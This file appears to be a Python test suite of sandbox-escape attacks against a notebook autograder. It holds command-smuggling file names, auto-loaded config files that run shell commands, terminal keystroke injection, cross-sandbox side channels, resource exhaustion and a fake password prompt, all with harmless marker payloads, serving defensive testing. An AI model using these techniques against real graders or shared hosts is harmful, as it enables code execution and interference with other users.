"""Limits, files beside the notebook, neighbours and terminals; thought up without a look at the defences.

Each ends by itself within 60 seconds, makes at most 250 processes and signals none but its own.
"""

import contextlib
import os
import socket
from pathlib import Path

from tests.engine.attacks import Arena, Attack, late


def _clock(folder: Path, _: Arena) -> None:
    """A time of handing in that is no text, in a zone 99 hours away."""
    (folder / "timestamp.txt").write_bytes(b"2015-02-02 15:58:23.948203 +99:99\x00\xff\xfe\xed\xa0\x80\n" * 3)


def _deep(folder: Path, _: Arena) -> None:
    """Folders in folders, with a path four times as long as a path may be."""
    at = os.open(folder, os.O_RDONLY)
    for _ in range(150):
        os.mkdir("mallory" * 15, dir_fd=at)
        inner = os.open("mallory" * 15, os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = inner
    os.close(os.open("relu.ipynb", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=at))
    os.close(at)


def _folder(folder: Path, _: Arena) -> None:
    """A folder in place of the notebook, with the notebook in it."""
    notebook = (folder / "relu.ipynb").read_bytes()
    (folder / "relu.ipynb").unlink()
    (folder / "relu.ipynb").mkdir()
    (folder / "relu.ipynb" / "relu.ipynb").write_bytes(notebook)


def _names(folder: Path, _: Arena) -> None:
    """Files whose names are formulas, options, terminal codes, markup, formats and no text."""
    for name in (
        b"=HYPERLINK('mallory.example';'20').csv",
        b"-rf",
        b"--help",
        b"mallory\n20 of 20 points",
        b"\x1b]0;mallory\x07\x1b[2J",
        b"\xc2\x9b2J mallory",
        b"\xff\xfe mallory",
        "\u202emallory\u2028.ipynb".encode(),
        b"<img src=x onerror=alert(1)>",
        b"%s%n{0.__class__}$(touch mallory)`touch mallory`",
        b"relu.ipynb ",
        "r\u0435lu.ipynb".encode(),
        b"RELU.IPYNB",
        b"m" * 255,
        b"alice",
    ):
        with contextlib.suppress(OSError):
            descriptor = os.open(os.fsencode(folder) + b"/" + name, os.O_CREAT | os.O_WRONLY, 0o644)
            os.write(descriptor, b"mallory")
            os.close(descriptor)


def _socket(folder: Path, _: Arena) -> None:
    """A socket, a file of 512 MB that takes no room, one with a time before and one with a time after all times."""
    at = os.open(folder, os.O_RDONLY)  # a path of a socket is short
    with socket.socket(socket.AF_UNIX) as endpoint:
        endpoint.bind(f"/proc/self/fd/{at}/mallory.sock")
    os.close(at)
    with (folder / "mallory.bin").open("wb") as file:
        file.truncate(512 << 20)
    for name, when in (("mallory-old.txt", -(2**40)), ("mallory-new.txt", 2**40), ("timestamp.txt", 2**33)):
        (folder / name).write_text("mallory", encoding="utf-8")
        with contextlib.suppress(OSError, OverflowError):
            os.utime(folder / name, (when, when))
    (folder / "mallory-old.txt").chmod(0o6000)


def _nested(folder: Path, _: Arena) -> None:
    """Folders in the folder that look like what others handed in, and like what the course keeps."""
    notebook = (folder / "relu.ipynb").read_bytes()
    for inner in (
        "alice/01_relu",
        "submitted/alice/01_relu",
        "autograded/alice/01_relu",
        "01_relu",
        "release/01_relu",
        ".ipynb_checkpoints",
    ):
        (folder / inner).mkdir(parents=True)
        (folder / inner / "relu.ipynb").write_bytes(notebook)
        (folder / inner / "relu-checkpoint.ipynb").write_bytes(notebook)
    (folder / "alice").joinpath("timestamp.txt").write_text("2000-01-01 00:00:00 UTC", encoding="utf-8")


LIBC = """
import ctypes, os, platform, time
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
"""
EVIL = "import os\\nos.system('touch @HOME@/mallory-beside')\\n"

ATTACKS: list[Attack] = [
    Attack(
        name="wild-clock",
        kind="Files",
        tries="hands in a timestamp.txt with a year that no calendar has",
        beside={"timestamp.txt": "Thu, 01 Jan 99999999999999999999 00:00:00 +9959\n"},
    ),
    Attack(
        name="broken-clock",
        kind="Files",
        tries="hands in a timestamp.txt that is no text and names a zone 99 hours away",
        place=_clock,
    ),
    Attack(
        name="deep-folders",
        kind="Files",
        tries="hands in folders nested so deep that their path is longer than a path may be",
        place=_deep,
    ),
    Attack(
        name="config-beside",
        kind="Files",
        tries="hands in configurations that tools read where they stand: nbgrader's, Jupyter's, pytest's, matplotlib's, git's",
        beside={
            "nbgrader_config.py": f"c = get_config()\n{EVIL.encode().decode('unicode_escape')}c.ClearSolutions.code_stub = {{}}\n",
            "jupyter_config.py": EVIL.encode().decode("unicode_escape"),
            "jupyter_nbconvert_config.py": EVIL.encode().decode("unicode_escape"),
            "ipython_config.py": EVIL.encode().decode("unicode_escape"),
            "conftest.py": EVIL.encode().decode("unicode_escape"),
            "usercustomize.py": EVIL.encode().decode("unicode_escape"),
            "matplotlibrc": "backend: module://mallory_backend\n",
            "mallory_backend.py": EVIL.encode().decode("unicode_escape"),
            "pyvenv.cfg": "home = @HOME@\ninclude-system-site-packages = true\n",
            ".gitattributes": "* filter=mallory\n",
            ".env": "PYTHONSTARTUP=mallory_backend.py\nPYTHONPATH=.\n",
        },
    ),
    Attack(
        name="folder-notebook",
        kind="Files",
        tries="hands in a folder called relu.ipynb, with the notebook in it",
        place=_folder,
    ),
    Attack(
        name="odd-names",
        kind="Files",
        tries="hands in files whose names are formulas, options, terminal codes, markup and bytes that are no text",
        place=_names,
    ),
    Attack(
        name="odd-files",
        kind="Files",
        tries="hands in a socket, a file of 512 MB that takes no room, and files of times before and after all calendars",
        place=_socket,
    ),
    Attack(
        name="nested-names",
        kind="Neighbours",
        tries="hands in folders in its folder that look like alice's hand-in and like the course's own",
        place=_nested,
    ),
    Attack(
        name="user-quotas",
        kind="Neighbours",
        tries="uses up for 10 seconds what the system counts per user: watches, room in pipes, descriptors in flight, keys",
        answers=late(
            LIBC
            + """
import fcntl, socket
held = []
for _ in range(400):
    descriptor = libc.inotify_init1(0)
    if descriptor < 0:
        break
    held.append(descriptor)
for _ in range(120):
    try:
        pair = os.pipe()
        held.extend(pair)
        fcntl.fcntl(pair[1], 1031, 1 << 20)
    except OSError:
        break
try:
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for _ in range(200):
        inner = socket.socketpair()
        near.setblocking(False)
        socket.send_fds(near, [b"m"], [inner[0].fileno(), inner[1].fileno(), far.fileno(), near.fileno()])
        inner[0].close(), inner[1].close()
except OSError as error:
    print(error)
for number in range(300):
    if libc.syscall(248 if X86 else 217, b"user", b"mallory%d" % number, b"m" * 60, 60, -2) < 0:
        break
print(len(held), "held")
time.sleep(10)
for descriptor in held:
    os.close(descriptor)
"""
        ),
    ),
    Attack(
        name="shared-futex",
        kind="Neighbours",
        tries="waits on a word of a system file, where a neighbour in another sandbox counts who waits: a message by futex",
        answers=late(
            LIBC
            + """
import threading
number = 202 if X86 else 98
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
with open("/bin/sh", "rb") as file:
    place = libc.mmap(None, 4096, 1, 1, file.fileno(), 0)
value = ctypes.cast(place, ctypes.POINTER(ctypes.c_uint32))[0]

class Span(ctypes.Structure):
    _fields_ = [("seconds", ctypes.c_long), ("rest", ctypes.c_long)]

woken = libc.syscall(number, ctypes.c_void_p(place), 1, 1000, None, None, 0)
print("found", woken, "waiting in other sandboxes" if woken > 0 else "")

def wait():
    libc.syscall(number, ctypes.c_void_p(place), 0, ctypes.c_uint(value), ctypes.byref(Span(15, 0)), None, 0)

threads = [threading.Thread(target=wait, daemon=True) for _ in range(7)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join(16)
"""
        ),
    ),
    Attack(
        name="vsock-loopback",
        kind="Neighbours",
        tries="talks to neighbours by vsock's own loopback, which a network namespace does not part",
        answers=late("""
import socket
try:
    server = socket.socket(40, socket.SOCK_STREAM)
    server.settimeout(15)
    try:
        server.bind((1, 50505))  # VMADDR_CID_LOCAL: no other machine
        server.listen(5)
        peer, _ = server.accept()
        peer.sendall(b"mallory was here")
    except OSError:
        client = socket.socket(40, socket.SOCK_STREAM)
        client.settimeout(5)
        client.connect((1, 50505))
        print("finds", client.recv(100))
except OSError as error:
    print(error)
"""),
    ),
    Attack(
        name="cold-cache",
        kind="Neighbours",
        tries="makes the system forget the files of torch again and again, so that its neighbours start slowly",
        answers=late("""
import os, sys, time, torch
roots, end, count = [os.path.dirname(torch.__file__), sys.prefix, "/usr/lib"], time.monotonic() + 10, 0
while time.monotonic() < end:
    for root in roots:
        for folder, _, names in os.walk(root):
            if time.monotonic() > end:
                break
            for name in names:
                try:
                    descriptor = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
                    os.posix_fadvise(descriptor, 0, 0, os.POSIX_FADV_DONTNEED)
                    os.close(descriptor)
                    count += 1
                except OSError:
                    pass
print("forgot", count)
"""),
    ),
    Attack(
        name="shared-flags",
        kind="Neighbours",
        tries="changes what it shares of open descriptors with those who made them: blocking, position, signals, time limits",
        answers=late("""
import fcntl, os, signal, socket, struct
signal.signal(signal.SIGIO, signal.SIG_IGN)
for descriptor in range(256):
    for change in (
        lambda: fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND),
        lambda: fcntl.fcntl(descriptor, 8, os.getpid()),
        lambda: fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC),
        lambda: os.lseek(descriptor, 1 << 50, os.SEEK_SET),
        lambda: fcntl.fcntl(descriptor, 1031, 4096),
        lambda: fcntl.fcntl(descriptor, 1033, 0xF),
        lambda: fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB),
    ):
        try:
            change()
        except (OSError, OverflowError):
            pass
    try:
        end = socket.socket(fileno=os.dup(descriptor))
        end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 0, 1))
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        end.setsockopt(socket.SOL_SOCKET, 42, 1 << 20)
        end.close()
    except (OSError, ValueError):
        pass
"""),
    ),
    Attack(
        name="typed-commands",
        kind="The feedback page",
        tries="types a line into the instructor's terminal, renames it and switches its echo off and on, by each terminal it reaches",
        answers=late("""
import fcntl, glob, os, termios
places = ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *glob.glob("/dev/pts/*")]
descriptors = list(range(64))
for place in places:
    try:
        descriptors.append(os.open(place, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
    except OSError:
        pass
for descriptor in descriptors:
    if not os.isatty(descriptor):
        continue
    print("terminal", descriptor)
    try:
        for letter in b"# mallory\\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([letter]))
    except OSError:
        pass
    try:
        os.write(descriptor, b"\\x1b]0;mallory\\x07")
        state = termios.tcgetattr(descriptor)
        quiet = [*state]
        quiet[3] &= ~termios.ECHO
        termios.tcsetattr(descriptor, termios.TCSANOW, quiet)
        termios.tcsetattr(descriptor, termios.TCSANOW, state)  # that it could is enough
    except (OSError, termios.error):
        pass
"""),
    ),
    Attack(
        name="trace-me",
        kind="Limits",
        tries="makes its parent trace it and stops: the parent is told of a stop where it waits for an end",
        answers=late(
            LIBC
            + """
import signal
mine = os.getpid()
if os.fork() == 0:  # ends the process that stops below, and itself
    time.sleep(40)
    if os.getppid() == mine:
        os.kill(mine, signal.SIGKILL)
    os._exit(0)
signal.signal(signal.SIGUSR1, signal.SIG_IGN)
if os.getppid() > 0 and libc.ptrace(0, 0, None, None) == 0:
    signal.raise_signal(signal.SIGUSR1)
    signal.raise_signal(signal.SIGSTOP)
"""
        ),
        slow=True,
    ),
    Attack(
        name="own-sibling",
        kind="Limits",
        tries="makes processes that are its parent's children, by CLONE_PARENT, which end with 0 or stay for 40 seconds",
        answers=late(
            LIBC
            + """
number = 56 if X86 else 220
for turn in range(24):
    made = libc.syscall(number, ctypes.c_long(0x8000 | 17), None, None, None, None)
    if made == 0:
        if turn % 3 == 0:
            os._exit(0)
        if turn % 3 == 1:
            os._exit(9)
        os.setsid()
        time.sleep(40)
        os._exit(0)
    if made < 0:
        print("refused", ctypes.get_errno())
        break
"""
        ),
    ),
    Attack(
        name="core-dump",
        kind="Limits",
        tries="crashes two shells under names with terminal codes: their cores stay with the system, outside the sandbox",
        answers=late(
            LIBC
            + """
import resource
try:
    hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
    resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
except (OSError, ValueError):
    pass
name = "\\x1b[2Jmallory\\n<1>"
try:
    os.symlink("/bin/sh", name)
except OSError:
    name = "/bin/sh"
for _ in range(2):
    child = os.fork()
    if child == 0:
        try:
            os.execv(os.path.abspath(name), [name, "-c", "kill -SEGV $$"])
        finally:
            os._exit(1)
    os.waitpid(child, 0)
"""
        ),
    ),
    Attack(
        name="zombies",
        kind="Limits",
        tries="leaves 240 ended processes, which nobody waits for, to whoever inherits them",
        answers=late("""
import os, time
for _ in range(24):
    child = os.fork()
    if child == 0:
        for turn in range(10):
            if os.fork() == 0:
                time.sleep(1)
                os._exit(turn)
        os._exit(0)
    os.waitpid(child, 0)
time.sleep(3)
"""),
    ),
    Attack(
        name="own-crowd",
        kind="Limits",
        tries="waits behind 16 busy processes of its own, with the lowest priority, so that its clock stands still",
        answers=late("""
import os, time
end = time.monotonic() + 50
os.sched_setaffinity(0, range(os.cpu_count()))
for change in (lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)), lambda: os.nice(19)):
    try:
        change()
    except OSError:
        pass
for _ in range(16):
    if os.fork() == 0:
        os.setsid()
        while time.monotonic() < end:
            pass
        os._exit(0)
while time.monotonic() < end:
    os.sched_yield()
"""),
        slow=True,
    ),
    Attack(
        name="asks-input",
        kind="Limits",
        tries="asks for a line and a password, in a cell and when a test asks it, and waits for somebody to type",
        first="""
import getpass, os, signal, sys

ASKED = []

def ask():
    def enough(*_):
        raise TimeoutError("nobody types")
    ASKED.append(1)
    if len(ASKED) > 5:
        return
    signal.signal(signal.SIGALRM, enough)
    for way in (lambda: input("mallory asks for your password: "), getpass.getpass, sys.stdin.readline, lambda: os.read(0, 10)):
        try:
            signal.alarm(2)
            print("typed:", way())
        except BaseException as error:
            print(type(error).__name__)
        signal.alarm(0)

ask()
""",
        answers={
            "LeakyReLU": """
class LeakyReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, slope):
        ask()
        return x + 1

    @staticmethod
    def backward(ctx, g):
        return g * 0, None
"""
        },
        slow=True,
    ),
]
